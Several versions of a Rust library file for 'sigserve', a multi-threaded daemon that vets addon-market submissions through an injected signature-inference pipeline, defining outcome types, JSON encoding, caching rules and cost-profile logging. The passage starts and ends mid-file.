        timings: PhaseTimings,
    },
    /// The analysis budget (step or wall-clock) was exhausted; the
    /// daemon reports `verdict:"timeout"` and keeps the worker.
    #[non_exhaustive]
    Timeout {
        /// Worklist steps executed when the budget tripped.
        steps: usize,
        /// Wall time spent in the fixpoint loop.
        elapsed: Duration,
    },
    /// The pipeline failed (parse error, step-limit safety valve, ...).
    #[non_exhaustive]
    Error {
        /// Human-readable failure description.
        message: String,
    },
}

impl VetOutcome {
    /// A successful vetting: the signature document plus phase timings.
    pub fn report(signature_json: String, timings: PhaseTimings) -> VetOutcome {
        VetOutcome::Report {
            signature_json,
            timings,
        }
    }

    /// A budget-exhausted (degraded) vetting.
    pub fn timeout(steps: usize, elapsed: Duration) -> VetOutcome {
        VetOutcome::Timeout { steps, elapsed }
    }

    /// A failed vetting.
    pub fn error(message: impl Into<String>) -> VetOutcome {
        VetOutcome::Error {
            message: message.into(),
        }
    }

    /// The protocol "core" of this outcome: the verdict-bearing object
    /// cached and embedded into `vet_result` responses. This is the one
    /// place outcomes are encoded; the timing keys stay the flat
    /// `p1_us`/`p2_us`/`p3_us` the protocol has always used.
    pub fn core_json(&self) -> Json {
        let mut core = Json::obj();
        match self {
            VetOutcome::Report {
                signature_json,
                timings,
            } => {
                core.set("verdict", Json::from("ok"));
                core.set("p1_us", Json::from(timings.p1.as_micros() as f64));
                core.set("p2_us", Json::from(timings.p2.as_micros() as f64));
                core.set("p3_us", Json::from(timings.p3.as_micros() as f64));
                let sig = Json::parse(signature_json)
                    .unwrap_or_else(|_| Json::Str(signature_json.clone()));
                core.set("signature", sig);
            }
            VetOutcome::Timeout { steps, elapsed } => {
                core.set("verdict", Json::from("timeout"));
                core.set("steps", Json::from(*steps as f64));
                core.set("elapsed_us", Json::from(elapsed.as_micros() as f64));
            }
            VetOutcome::Error { message } => {
                core.set("verdict", Json::from("error"));
                core.set("message", Json::from(message.as_str()));
            }
        }
        core
    }

    /// Whether this outcome may be served from cache on resubmission.
    /// Deadline-based timeouts are not cacheable: they depend on machine
    /// load, so a later identical submission deserves a fresh attempt,
    /// while step-budget timeouts are deterministic and cache fine.
    pub fn cacheable(&self, config: &jsanalysis::AnalysisConfig) -> bool {
        match self {
            VetOutcome::Report { .. } | VetOutcome::Error { .. } => true,
            VetOutcome::Timeout { steps, .. } => {
                // Deterministic iff the step budget (not the wall clock)
                // tripped.
                config.step_budget.is_some_and(|budget| *steps > budget)
            }
        }
    }
}

/// The injected analysis pipeline: full vetting of one source under one
/// configuration, folding whatever it wants to expose (pipeline
/// counters, per-phase latencies) into the daemon's metrics registry.
/// Must be callable from many worker threads at once.
pub type AnalyzeFn =
    dyn Fn(&str, &jsanalysis::AnalysisConfig, &MetricsRegistry) -> VetOutcome + Send + Sync;

/// The trace-aware engine variant: like [`AnalyzeFn`] plus a
/// [`sigtrace::Trace`] the engine should attach to the pipeline, so
/// per-phase spans land in the daemon's structured event log tagged with
/// the owning job's request ID. The daemon passes [`Trace::Off`] when no
/// log is attached (or its level is below debug), which an engine can
/// forward untouched at zero cost.
///
/// [`Trace::Off`]: sigtrace::Trace::Off
pub type AnalyzeJobFn = dyn for<'a> Fn(&str, &jsanalysis::AnalysisConfig, &MetricsRegistry, sigtrace::Trace<'a>) -> VetOutcome
    + Send
    + Sync;
