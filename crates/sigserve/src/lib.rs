//! `sigserve` — the vetting service daemon.
//!
//! The paper frames signature inference as a tool for addon-market
//! curators vetting a continuous stream of submissions. This crate is the
//! missing service layer around the analysis pipeline: a long-running,
//! multi-threaded daemon that
//!
//! - accepts vetting jobs over a newline-delimited JSON protocol
//!   ([`protocol`]) on TCP or stdio,
//! - feeds them through a **bounded job queue with backpressure**
//!   ([`queue`]): when the queue is full the submitter gets a typed
//!   `overloaded` response instead of unbounded latency,
//! - answers re-submitted or duplicated addons from a
//!   **content-addressed LRU cache** ([`cache`]) keyed by FNV-1a of
//!   (source bytes, canonicalized analysis config),
//! - survives pathological inputs by running every analysis under a
//!   configurable **step budget / wall-clock deadline** (the hooks live
//!   in `jsanalysis`); an exhausted budget produces a degraded
//!   `verdict:"timeout"` response while the worker stays alive, and
//! - reports what it is doing through monotone counters ([`stats`]).
//!
//! The analysis pipeline itself is injected as an [`AnalyzeFn`] so this
//! crate depends only on `jsanalysis` (for configuration types) and the
//! in-tree `minijson`; the root `addon-sig` crate supplies the real
//! pipeline (`addon_sig::service_analyze`) and the `vet serve` / `vet
//! --client` CLI entry points.
//!
//! # In-process example
//!
//! ```
//! use jsanalysis::AnalysisConfig;
//! use sigserve::{Client, ServeConfig, Server, VetOutcome};
//! use std::time::Duration;
//!
//! // A stub engine; real deployments pass `addon_sig::service_analyze`.
//! fn analyze(_source: &str, _config: &AnalysisConfig) -> VetOutcome {
//!     VetOutcome::Report {
//!         signature_json: "{\n  \"flows\": []\n}".to_owned(),
//!         p1: Duration::from_micros(10),
//!         p2: Duration::from_micros(5),
//!         p3: Duration::from_micros(1),
//!     }
//! }
//!
//! let server = Server::bind("127.0.0.1:0", ServeConfig::default(), analyze)?;
//! let mut client = Client::connect(server.local_addr())?;
//! let resp = client.vet_source(Some("tiny"), "var x = 1;")?;
//! assert_eq!(resp["verdict"], "ok");
//! let ack = client.shutdown()?;
//! assert_eq!(ack["kind"], "shutdown_ack");
//! server.join();
//! # Ok::<(), std::io::Error>(())
//! ```

#![warn(missing_docs)]

pub mod cache;
pub mod client;
pub mod protocol;
pub mod queue;
pub mod server;
pub mod stats;

pub use cache::{cache_key, cache_key_for, CacheCounters, SigCache};
pub use client::Client;
pub use protocol::{parse_request, Request, Source, VetItem};
pub use queue::{Bounded, PushError};
pub use server::{serve_stdio, ServeConfig, Server};
pub use stats::Stats;

use std::time::Duration;

/// What one run of the injected analysis pipeline produced.
#[derive(Debug, Clone)]
pub enum VetOutcome {
    /// The pipeline finished; `signature_json` is the exact document the
    /// CLI's `--json` mode prints (`Signature::to_json()`), so cached and
    /// fresh service responses reproduce the CLI's bytes.
    Report {
        /// The signature JSON document.
        signature_json: String,
        /// Phase 1 (base analysis) wall time.
        p1: Duration,
        /// Phase 2 (PDG construction) wall time.
        p2: Duration,
        /// Phase 3 (signature inference) wall time.
        p3: Duration,
    },
    /// The analysis budget (step or wall-clock) was exhausted; the
    /// daemon reports `verdict:"timeout"` and keeps the worker.
    Timeout {
        /// Worklist steps executed when the budget tripped.
        steps: usize,
        /// Wall time spent in the fixpoint loop.
        elapsed: Duration,
    },
    /// The pipeline failed (parse error, step-limit safety valve, ...).
    Error {
        /// Human-readable failure description.
        message: String,
    },
}

/// The injected analysis pipeline: full vetting of one source under one
/// configuration. Must be callable from many worker threads at once.
pub type AnalyzeFn = dyn Fn(&str, &jsanalysis::AnalysisConfig) -> VetOutcome + Send + Sync;
