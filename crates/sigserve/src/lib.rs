//! `sigserve` — the vetting service daemon.
//!
//! The paper frames signature inference as a tool for addon-market
//! curators vetting a continuous stream of submissions. This crate is the
//! missing service layer around the analysis pipeline: a long-running,
//! multi-threaded daemon that
//!
//! - accepts vetting jobs over a newline-delimited JSON protocol
//!   ([`protocol`]) on TCP or stdio,
//! - feeds them through a **bounded job queue with backpressure**
//!   ([`queue`]): when the queue is full the submitter gets a typed
//!   `overloaded` response instead of unbounded latency,
//! - answers re-submitted or duplicated addons from a
//!   **content-addressed LRU cache** ([`cache`]) keyed by FNV-1a of
//!   (source bytes, canonicalized analysis config),
//! - survives pathological inputs by running every analysis under a
//!   configurable **step budget / wall-clock deadline** (the hooks live
//!   in `jsanalysis`); an exhausted budget produces a degraded
//!   `verdict:"timeout"` response while the worker stays alive, and
//! - reports what it is doing through monotone counters ([`stats`]).
//!
//! The analysis pipeline itself is injected as an [`AnalyzeFn`] so this
//! crate depends only on `jsanalysis` (for configuration types),
//! `sigtrace` (timings and the metrics registry) and the in-tree
//! `minijson`; the root `addon-sig` crate supplies the real pipeline
//! (`addon_sig::service_engine`) and the `vet serve` / `vet --client`
//! CLI entry points.
//!
//! # In-process example
//!
//! ```
//! use jsanalysis::AnalysisConfig;
//! use sigserve::{Client, MetricsRegistry, ServeConfig, Server, VetOutcome};
//! use sigserve::PhaseTimings;
//! use std::time::Duration;
//!
//! // A stub engine; real deployments pass `addon_sig::service_engine`.
//! fn analyze(_source: &str, _config: &AnalysisConfig, _metrics: &MetricsRegistry) -> VetOutcome {
//!     VetOutcome::report(
//!         "{\n  \"flows\": []\n}".to_owned(),
//!         PhaseTimings::new(
//!             Duration::from_micros(10),
//!             Duration::from_micros(5),
//!             Duration::from_micros(1),
//!         ),
//!     )
//! }
//!
//! let server = Server::builder()
//!     .config(ServeConfig::default())
//!     .addr("127.0.0.1:0")
//!     .analyze(analyze)
//!     .start()?;
//! let mut client = Client::connect(server.local_addr())?;
//! let resp = client.vet_source(Some("tiny"), "var x = 1;")?;
//! assert_eq!(resp["verdict"], "ok");
//! let ack = client.shutdown()?;
//! assert_eq!(ack["kind"], "shutdown_ack");
//! server.join();
//! # Ok::<(), std::io::Error>(())
//! ```

#![warn(missing_docs)]

pub mod cache;
pub mod client;
pub mod conn;
pub mod poller;
pub mod protocol;
pub mod queue;
pub mod server;
pub mod stats;

pub use cache::{cache_key, cache_key_for, CacheCounters, SigCache};
pub use client::Client;
pub use poller::Backend;
pub use protocol::{parse_request, Request, Source, VetItem};
pub use queue::{Bounded, PushError};
pub use server::{ServeConfig, Server, ServerBuilder};
pub use stats::{metrics_json, Stats};
/// Re-exported from `sigobs`: the structured event log `ServeConfig`
/// can attach so every job lifecycle lands in a JSONL stream, plus the
/// overload sampling policy it can run under.
pub use sigobs::{EventLog, Level, SamplePolicy};
/// Re-exported from `sigtrace`: the metrics registry every worker feeds,
/// the phase-timing triple `VetOutcome::Report` carries, and the per-job
/// cost profile outcomes can attach.
pub use sigtrace::{JobProfile, MetricsRegistry, MetricsSnapshot, PhaseTimings};

use minijson::Json;
use std::time::Duration;

/// What one run of the injected analysis pipeline produced.
///
/// The variants are `#[non_exhaustive]`: construct them through
/// [`VetOutcome::report`] / [`VetOutcome::timeout`] /
/// [`VetOutcome::error`], and let [`VetOutcome::core_json`] do the
/// protocol encoding, so the wire format lives in exactly one place.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub enum VetOutcome {
    /// The pipeline finished; `signature_json` is the exact document the
    /// CLI's `--json` mode prints (`Signature::to_json()`), so cached and
    /// fresh service responses reproduce the CLI's bytes.
    #[non_exhaustive]
    Report {
        /// The signature JSON document.
        signature_json: String,
        /// Per-phase wall times (the paper's Table 2 columns).
        timings: PhaseTimings,
        /// Per-job cost attribution, when the engine ran with it
        /// enabled. Never part of [`VetOutcome::core_json`] — the wire
        /// format and cache identity are profile-free; the daemon
        /// surfaces it through the `job_profile` log event instead.
        profile: Option<JobProfile>,
    },
    /// The analysis budget (step or wall-clock) was exhausted; the
    /// daemon reports `verdict:"timeout"` and keeps the worker.
    #[non_exhaustive]
    Timeout {
        /// Worklist steps executed when the budget tripped.
        steps: usize,
        /// Wall time spent in the fixpoint loop.
        elapsed: Duration,
        /// The hotspot postmortem: where the exhausted budget went.
        /// Present whenever the engine ran with attribution enabled
        /// (the daemon's engines always do), so every timeout verdict
        /// is explainable from the log alone.
        profile: Option<JobProfile>,
    },
    /// The pipeline failed (parse error, step-limit safety valve, ...).
    #[non_exhaustive]
    Error {
        /// Human-readable failure description.
        message: String,
    },
}

impl VetOutcome {
    /// A successful vetting: the signature document plus phase timings.
    pub fn report(signature_json: String, timings: PhaseTimings) -> VetOutcome {
        VetOutcome::Report {
            signature_json,
            timings,
            profile: None,
        }
    }

    /// [`VetOutcome::report`] carrying a per-job cost profile.
    pub fn report_profiled(
        signature_json: String,
        timings: PhaseTimings,
        profile: JobProfile,
    ) -> VetOutcome {
        VetOutcome::Report {
            signature_json,
            timings,
            profile: Some(profile),
        }
    }

    /// A budget-exhausted (degraded) vetting.
    pub fn timeout(steps: usize, elapsed: Duration) -> VetOutcome {
        VetOutcome::Timeout {
            steps,
            elapsed,
            profile: None,
        }
    }

    /// [`VetOutcome::timeout`] carrying the hotspot postmortem.
    pub fn timeout_profiled(steps: usize, elapsed: Duration, profile: JobProfile) -> VetOutcome {
        VetOutcome::Timeout {
            steps,
            elapsed,
            profile: Some(profile),
        }
    }

    /// The attached cost profile, if the engine recorded one.
    pub fn profile(&self) -> Option<&JobProfile> {
        match self {
            VetOutcome::Report { profile, .. } | VetOutcome::Timeout { profile, .. } => {
                profile.as_ref()
            }
            VetOutcome::Error { .. } => None,
        }
    }

    /// A failed vetting.
    pub fn error(message: impl Into<String>) -> VetOutcome {
        VetOutcome::Error {
            message: message.into(),
        }
    }

    /// The protocol "core" of this outcome: the verdict-bearing object
    /// cached and embedded into `vet_result` responses. This is the one
    /// place outcomes are encoded; the timing keys stay the flat
    /// `p1_us`/`p2_us`/`p3_us` the protocol has always used.
    pub fn core_json(&self) -> Json {
        let mut core = Json::obj();
        match self {
            VetOutcome::Report {
                signature_json,
                timings,
                ..
            } => {
                core.set("verdict", Json::from("ok"));
                core.set("p1_us", Json::from(timings.p1.as_micros() as f64));
                core.set("p2_us", Json::from(timings.p2.as_micros() as f64));
                core.set("p3_us", Json::from(timings.p3.as_micros() as f64));
                let sig = Json::parse(signature_json)
                    .unwrap_or_else(|_| Json::Str(signature_json.clone()));
                core.set("signature", sig);
            }
            VetOutcome::Timeout { steps, elapsed, .. } => {
                core.set("verdict", Json::from("timeout"));
                core.set("steps", Json::from(*steps as f64));
                core.set("elapsed_us", Json::from(elapsed.as_micros() as f64));
            }
            VetOutcome::Error { message } => {
                core.set("verdict", Json::from("error"));
                core.set("message", Json::from(message.as_str()));
            }
        }
        core
    }

    /// Whether this outcome may be served from cache on resubmission.
    /// Deadline-based timeouts are not cacheable: they depend on machine
    /// load, so a later identical submission deserves a fresh attempt,
    /// while step-budget timeouts are deterministic and cache fine.
    pub fn cacheable(&self, config: &jsanalysis::AnalysisConfig) -> bool {
        match self {
            VetOutcome::Report { .. } | VetOutcome::Error { .. } => true,
            VetOutcome::Timeout { steps, .. } => {
                // Deterministic iff the step budget (not the wall clock)
                // tripped.
                config.step_budget.is_some_and(|budget| *steps > budget)
            }
        }
    }
}

/// Renders a [`JobProfile`] as JSON: `total_steps`, the per-phase wall
/// times, and the `top` hottest attribution buckets. This is the one
/// encoding shared by the daemon's `job_profile` log event and
/// `vet profile --json`, so postmortems read identically everywhere.
/// (It lives here rather than in `sigtrace` because `sigtrace` is
/// deliberately dependency-free and `minijson` is a dependency.)
pub fn profile_json(profile: &JobProfile, top: usize) -> Json {
    let mut doc = Json::obj();
    doc.set("total_steps", Json::from(profile.total_steps as f64));
    let phases = profile
        .phases
        .iter()
        .map(|(phase, us)| {
            let mut p = Json::obj();
            p.set("phase", Json::from(phase.as_str()));
            p.set("us", Json::from(*us as f64));
            p
        })
        .collect();
    doc.set("phases", Json::Arr(phases));
    let hotspots = profile
        .top(top)
        .iter()
        .map(|cost| {
            let mut h = Json::obj();
            h.set("func", Json::from(cost.func.as_str()));
            h.set("ctx", Json::from(sigtrace::ctx_class_name(cost.ctx_class)));
            h.set("phase", Json::from(cost.phase.as_str()));
            h.set("steps", Json::from(cost.steps as f64));
            h.set("time_us", Json::from(cost.time_us as f64));
            h
        })
        .collect();
    doc.set("hotspots", Json::Arr(hotspots));
    doc
}

/// How many hotspot buckets a `job_profile` log event carries. Top-5
/// answers "where did the budget go" without bloating the JSONL stream
/// on large addons; `vet profile` renders the full table on demand.
pub const POSTMORTEM_TOP_K: usize = 5;

/// Logs `outcome`'s cost postmortem as a `job_profile` event, meant to
/// ride right after the job's `job_computed` record. Timeouts emit at
/// warn — a budget-exhausted verdict must be explainable from the JSONL
/// stream alone, under the default level — completed jobs at debug
/// (opt-in profiling of healthy traffic). No-op when the outcome
/// carries no profile. Shared by the daemon's workers and the fleet's,
/// so single-node and fleet logs replay under the same contract.
pub fn log_job_profile(log: &sigobs::EventLog, job: &str, outcome: &VetOutcome) {
    let Some(profile) = outcome.profile() else {
        return;
    };
    let (level, verdict) = match outcome {
        VetOutcome::Timeout { .. } => (sigobs::Level::Warn, "timeout"),
        _ => (sigobs::Level::Debug, "ok"),
    };
    let doc = profile_json(profile, POSTMORTEM_TOP_K);
    let field = |key: &str| doc.get(key).cloned().unwrap_or(Json::Null);
    log.log(
        level,
        "job_profile",
        &[
            ("job", Json::from(job)),
            ("verdict", Json::from(verdict)),
            ("total_steps", field("total_steps")),
            ("phases", field("phases")),
            ("hotspots", field("hotspots")),
        ],
    );
}

/// The injected analysis pipeline: full vetting of one source under one
/// configuration, folding whatever it wants to expose (pipeline
/// counters, per-phase latencies) into the daemon's metrics registry.
/// Must be callable from many worker threads at once.
pub type AnalyzeFn =
    dyn Fn(&str, &jsanalysis::AnalysisConfig, &MetricsRegistry) -> VetOutcome + Send + Sync;

/// The trace-aware engine variant: like [`AnalyzeFn`] plus a
/// [`sigtrace::Trace`] the engine should attach to the pipeline, so
/// per-phase spans land in the daemon's structured event log tagged with
/// the owning job's request ID. The daemon passes [`Trace::Off`] when no
/// log is attached (or its level is below debug), which an engine can
/// forward untouched at zero cost.
///
/// [`Trace::Off`]: sigtrace::Trace::Off
pub type AnalyzeJobFn = dyn for<'a> Fn(&str, &jsanalysis::AnalysisConfig, &MetricsRegistry, sigtrace::Trace<'a>) -> VetOutcome
    + Send
    + Sync;
