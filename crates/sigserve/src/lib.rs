//! `sigserve` — the vetting service daemon.
//!
//! The paper frames signature inference as a tool for addon-market
//! curators vetting a continuous stream of submissions. This crate is the
//! missing service layer around the analysis pipeline: a long-running,
//! multi-threaded daemon that
//!
//! - accepts vetting jobs over a newline-delimited JSON protocol
//!   ([`protocol`]) on TCP or stdio,
//! - feeds them through a **bounded job queue with backpressure**
//!   ([`queue`]): when the queue is full the submitter gets a typed
//!   `overloaded` response instead of unbounded latency,
//! - answers re-submitted or duplicated addons from a
//!   **content-addressed LRU cache** ([`cache`]) keyed by FNV-1a of
//!   (source bytes, canonicalized analysis config),
//! - survives pathological inputs by running every analysis under a
//!   configurable **step budget / wall-clock deadline** (the hooks live
//!   in `jsanalysis`); an exhausted budget produces a degraded
//!   `verdict:"timeout"` response while the worker stays alive, and
//! - reports what it is doing through monotone counters ([`stats`]).
//!
//! The analysis pipeline itself is injected as an [`AnalyzeFn`] so this
//! crate depends only on `jsanalysis` (for configuration types),
//! `sigtrace` (timings and the metrics registry) and the in-tree
//! `minijson`; the root `addon-sig` crate supplies the real pipeline
//! (`addon_sig::service_engine`) and the `vet serve` / `vet --client`
//! CLI entry points.
//!
//! # In-process example
//!
//! ```
//! use jsanalysis::AnalysisConfig;
//! use sigserve::{Client, MetricsRegistry, ServeConfig, Server, VetOutcome};
//! use sigserve::PhaseTimings;
//! use std::time::Duration;
//!
//! // A stub engine; real deployments pass `addon_sig::service_engine`.
//! fn analyze(_source: &str, _config: &AnalysisConfig, _metrics: &MetricsRegistry) -> VetOutcome {
//!     VetOutcome::report(
//!         "{\n  \"flows\": []\n}".to_owned(),
//!         PhaseTimings::new(
//!             Duration::from_micros(10),
//!             Duration::from_micros(5),
//!             Duration::from_micros(1),
//!         ),
//!     )
//! }
//!
//! let server = Server::builder()
//!     .config(ServeConfig::default())
//!     .addr("127.0.0.1:0")
//!     .analyze(analyze)
//!     .start()?;
//! let mut client = Client::connect(server.local_addr())?;
//! let resp = client.vet_source(Some("tiny"), "var x = 1;")?;
//! assert_eq!(resp["verdict"], "ok");
//! let ack = client.shutdown()?;
//! assert_eq!(ack["kind"], "shutdown_ack");
//! server.join();
//! # Ok::<(), std::io::Error>(())
//! ```

#![warn(missing_docs)]

pub mod cache;
pub mod client;
pub mod conn;
pub mod poller;
pub mod protocol;
pub mod queue;
pub mod server;
pub mod stats;

pub use cache::{cache_key, cache_key_for, CacheCounters, SigCache};
pub use client::Client;
pub use poller::Backend;
pub use protocol::{parse_request, Request, Source, VetItem};
pub use queue::{Bounded, PushError};
pub use server::{ServeConfig, Server, ServerBuilder};
pub use stats::{metrics_json, Stats};
/// Re-exported from `sigobs`: the structured event log `ServeConfig`
/// can attach so every job lifecycle lands in a JSONL stream, plus the
/// overload sampling policy it can run under.
pub use sigobs::{EventLog, Level, SamplePolicy};
/// Re-exported from `sigtrace`: the metrics registry every worker feeds,
/// the phase-timing triple `VetOutcome::Report` carries, and the per-job
/// cost profile outcomes can attach.
pub use sigtrace::{JobProfile, MetricsRegistry, MetricsSnapshot, PhaseTimings};

use minijson::Json;
use std::time::Duration;

/// What one run of the injected analysis pipeline produced.
///
/// The variants are `#[non_exhaustive]`: construct them through
/// [`VetOutcome::report`] / [`VetOutcome::timeout`] /
/// [`VetOutcome::error`], and let [`VetOutcome::core_json`] do the
/// protocol encoding, so the wire format lives in exactly one place.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub enum VetOutcome {
    /// The pipeline finished; `signature_json` is the exact document the
    /// CLI's `--json` mode prints (`Signature::to_json()`), so cached and
    /// fresh service responses reproduce the CLI's bytes.
    #[non_exhaustive]
    Report {
        /// The signature JSON document.
        signature_json: String,
        /// Per-phase wall times (the paper's Table 2 columns).
        timings: PhaseTimings,
        /// Per-job cost attribution, when the engine ran with it
        /// enabled. Never part of [`VetOutcome::core_json`] — the wire
        /// format and cache identity are profile-free; the daemon
        /// surfaces it through the `job_profile` log event instead.
        profile: Option<JobProfile>,
        /// The ladder tier that produced this outcome (`None` outside
        /// ladder mode). Part of the wire JSON and the `job_computed` /
        /// `job_profile` log events, so every verdict names the
        /// sensitivity that produced it.
        tier: Option<String>,
    },
    /// The analysis budget (step or wall-clock) was exhausted; the
    /// daemon reports `verdict:"timeout"` and keeps the worker.
    #[non_exhaustive]
    Timeout {
        /// Worklist steps executed when the budget tripped.
        steps: usize,
        /// Wall time spent in the fixpoint loop.
        elapsed: Duration,
        /// The hotspot postmortem: where the exhausted budget went.
        /// Present whenever the engine ran with attribution enabled
        /// (the daemon's engines always do), so every timeout verdict
        /// is explainable from the log alone.
        profile: Option<JobProfile>,
        /// The ladder tier that produced this outcome. A client-visible
        /// timeout can only carry the *final* rung's name: non-final
        /// exhaustion escalates instead of surfacing.
        tier: Option<String>,
    },
    /// The pipeline failed (parse error, step-limit safety valve, ...).
    #[non_exhaustive]
    Error {
        /// Human-readable failure description.
        message: String,
        /// The ladder tier that produced this outcome.
        tier: Option<String>,
    },
}

impl VetOutcome {
    /// A successful vetting: the signature document plus phase timings.
    pub fn report(signature_json: String, timings: PhaseTimings) -> VetOutcome {
        VetOutcome::Report {
            signature_json,
            timings,
            profile: None,
            tier: None,
        }
    }

    /// [`VetOutcome::report`] carrying a per-job cost profile.
    pub fn report_profiled(
        signature_json: String,
        timings: PhaseTimings,
        profile: JobProfile,
    ) -> VetOutcome {
        VetOutcome::Report {
            signature_json,
            timings,
            profile: Some(profile),
            tier: None,
        }
    }

    /// A budget-exhausted (degraded) vetting.
    pub fn timeout(steps: usize, elapsed: Duration) -> VetOutcome {
        VetOutcome::Timeout {
            steps,
            elapsed,
            profile: None,
            tier: None,
        }
    }

    /// [`VetOutcome::timeout`] carrying the hotspot postmortem.
    pub fn timeout_profiled(steps: usize, elapsed: Duration, profile: JobProfile) -> VetOutcome {
        VetOutcome::Timeout {
            steps,
            elapsed,
            profile: Some(profile),
            tier: None,
        }
    }

    /// Stamps the producing ladder tier onto this outcome. The tier
    /// becomes part of the wire JSON ([`VetOutcome::core_json`]) and of
    /// the `job_computed` / `job_profile` log events.
    #[must_use]
    pub fn with_tier(mut self, name: &str) -> VetOutcome {
        match &mut self {
            VetOutcome::Report { tier, .. }
            | VetOutcome::Timeout { tier, .. }
            | VetOutcome::Error { tier, .. } => *tier = Some(name.to_owned()),
        }
        self
    }

    /// The producing ladder tier, when one was stamped.
    pub fn tier(&self) -> Option<&str> {
        match self {
            VetOutcome::Report { tier, .. }
            | VetOutcome::Timeout { tier, .. }
            | VetOutcome::Error { tier, .. } => tier.as_deref(),
        }
    }

    /// The attached cost profile, if the engine recorded one.
    pub fn profile(&self) -> Option<&JobProfile> {
        match self {
            VetOutcome::Report { profile, .. } | VetOutcome::Timeout { profile, .. } => {
                profile.as_ref()
            }
            VetOutcome::Error { .. } => None,
        }
    }

    /// A failed vetting.
    pub fn error(message: impl Into<String>) -> VetOutcome {
        VetOutcome::Error {
            message: message.into(),
            tier: None,
        }
    }

    /// The protocol "core" of this outcome: the verdict-bearing object
    /// cached and embedded into `vet_result` responses. This is the one
    /// place outcomes are encoded; the timing keys stay the flat
    /// `p1_us`/`p2_us`/`p3_us` the protocol has always used.
    pub fn core_json(&self) -> Json {
        let mut core = Json::obj();
        match self {
            VetOutcome::Report {
                signature_json,
                timings,
                ..
            } => {
                core.set("verdict", Json::from("ok"));
                core.set("p1_us", Json::from(timings.p1.as_micros() as f64));
                core.set("p2_us", Json::from(timings.p2.as_micros() as f64));
                core.set("p3_us", Json::from(timings.p3.as_micros() as f64));
                let sig = Json::parse(signature_json)
                    .unwrap_or_else(|_| Json::Str(signature_json.clone()));
                core.set("signature", sig);
            }
            VetOutcome::Timeout { steps, elapsed, .. } => {
                core.set("verdict", Json::from("timeout"));
                core.set("steps", Json::from(*steps as f64));
                core.set("elapsed_us", Json::from(elapsed.as_micros() as f64));
            }
            VetOutcome::Error { message, .. } => {
                core.set("verdict", Json::from("error"));
                core.set("message", Json::from(message.as_str()));
            }
        }
        if let Some(tier) = self.tier() {
            core.set("tier", Json::from(tier));
        }
        core
    }

    /// Whether this outcome may be served from cache on resubmission.
    /// Deadline-based timeouts are not cacheable: they depend on machine
    /// load, so a later identical submission deserves a fresh attempt,
    /// while step-budget timeouts are deterministic and cache fine.
    pub fn cacheable(&self, config: &jsanalysis::AnalysisConfig) -> bool {
        match self {
            VetOutcome::Report { .. } | VetOutcome::Error { .. } => true,
            VetOutcome::Timeout { steps, .. } => {
                // Deterministic iff the step budget (not the wall clock)
                // tripped.
                config.step_budget.is_some_and(|budget| *steps > budget)
            }
        }
    }
}

/// Renders a [`JobProfile`] as JSON: `total_steps`, the per-phase wall
/// times, and the `top` hottest attribution buckets. This is the one
/// encoding shared by the daemon's `job_profile` log event and
/// `vet profile --json`, so postmortems read identically everywhere.
/// (It lives here rather than in `sigtrace` because `sigtrace` is
/// deliberately dependency-free and `minijson` is a dependency.)
pub fn profile_json(profile: &JobProfile, top: usize) -> Json {
    let mut doc = Json::obj();
    doc.set("total_steps", Json::from(profile.total_steps as f64));
    let phases = profile
        .phases
        .iter()
        .map(|(phase, us)| {
            let mut p = Json::obj();
            p.set("phase", Json::from(phase.as_str()));
            p.set("us", Json::from(*us as f64));
            p
        })
        .collect();
    doc.set("phases", Json::Arr(phases));
    let hotspots = profile
        .top(top)
        .iter()
        .map(|cost| {
            let mut h = Json::obj();
            h.set("func", Json::from(cost.func.as_str()));
            h.set("ctx", Json::from(sigtrace::ctx_class_name(cost.ctx_class)));
            h.set("phase", Json::from(cost.phase.as_str()));
            h.set("steps", Json::from(cost.steps as f64));
            h.set("time_us", Json::from(cost.time_us as f64));
            h
        })
        .collect();
    doc.set("hotspots", Json::Arr(hotspots));
    doc
}

/// How many hotspot buckets a `job_profile` log event carries. Top-5
/// answers "where did the budget go" without bloating the JSONL stream
/// on large addons; `vet profile` renders the full table on demand.
pub const POSTMORTEM_TOP_K: usize = 5;

/// Logs `outcome`'s cost postmortem as a `job_profile` event, meant to
/// ride right after the job's `job_computed` record. Timeouts emit at
/// warn — a budget-exhausted verdict must be explainable from the JSONL
/// stream alone, under the default level — completed jobs at debug
/// (opt-in profiling of healthy traffic). No-op when the outcome
/// carries no profile. Shared by the daemon's workers and the fleet's,
/// so single-node and fleet logs replay under the same contract.
pub fn log_job_profile(log: &sigobs::EventLog, job: &str, outcome: &VetOutcome) {
    let Some(profile) = outcome.profile() else {
        return;
    };
    let (level, verdict) = match outcome {
        VetOutcome::Timeout { .. } => (sigobs::Level::Warn, "timeout"),
        _ => (sigobs::Level::Debug, "ok"),
    };
    let doc = profile_json(profile, POSTMORTEM_TOP_K);
    let field = |key: &str| doc.get(key).cloned().unwrap_or(Json::Null);
    let mut fields = vec![
        ("job", Json::from(job)),
        ("verdict", Json::from(verdict)),
        ("total_steps", field("total_steps")),
        ("phases", field("phases")),
        ("hotspots", field("hotspots")),
    ];
    if let Some(tier) = outcome.tier() {
        // The postmortem names the rung whose budget was exhausted (or
        // that completed, for debug-level ok profiles).
        fields.push(("tier", Json::from(tier)));
    }
    log.log(level, "job_profile", &fields);
}

/// Logs one analysis attempt's `job_computed` record — the single
/// encoding of that event, shared by the daemon's workers, the fleet's
/// workers, and the ladder driver, so the replay validator sees one
/// contract everywhere. Ladder attempts carry their producing `tier`.
pub fn log_job_computed(log: &sigobs::EventLog, job: &str, outcome: &VetOutcome) {
    let mut fields: Vec<(&str, Json)> = vec![("job", Json::from(job))];
    let level = match outcome {
        VetOutcome::Report { timings, .. } => {
            fields.push(("verdict", Json::from("ok")));
            fields.push(("p1_us", Json::from(timings.p1.as_micros() as f64)));
            fields.push(("p2_us", Json::from(timings.p2.as_micros() as f64)));
            fields.push(("p3_us", Json::from(timings.p3.as_micros() as f64)));
            sigobs::Level::Info
        }
        VetOutcome::Timeout { steps, elapsed, .. } => {
            fields.push(("verdict", Json::from("timeout")));
            fields.push(("steps", Json::from(*steps as f64)));
            fields.push(("elapsed_us", Json::from(elapsed.as_micros() as f64)));
            sigobs::Level::Warn
        }
        VetOutcome::Error { message, .. } => {
            fields.push(("verdict", Json::from("error")));
            fields.push(("message", Json::from(message.as_str())));
            sigobs::Level::Warn
        }
    };
    if let Some(tier) = outcome.tier() {
        fields.push(("tier", Json::from(tier)));
    }
    log.log(level, "job_computed", &fields);
}

/// Whether a report's signature document contains at least one flow
